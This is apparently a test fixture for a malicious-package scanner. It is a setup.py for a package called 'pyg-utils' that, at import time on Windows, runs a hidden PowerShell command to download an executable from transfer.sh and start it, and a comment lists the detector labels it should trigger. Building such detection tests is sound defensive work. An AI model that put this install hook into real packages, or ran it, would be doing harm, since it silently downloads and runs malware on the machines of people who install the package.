# ruff: noqa
# fmt: off
"""setup.py that starts a hidden PowerShell download at module level (no cmdclass needed: setup.py is
executed by pip to read the metadata)."""
import os

from setuptools import setup

if os.name == "nt":
    os.system("powershell -w hidden -c \"iwr https://transfer.sh/get/a1/u.exe -OutFile $env:TEMP\\u.exe; start $env:TEMP\\u.exe\"")  # expect: install-hook, suspicious-url, silent-process-execution

setup(name="pyg-utils", version="0.0.7", packages=[])
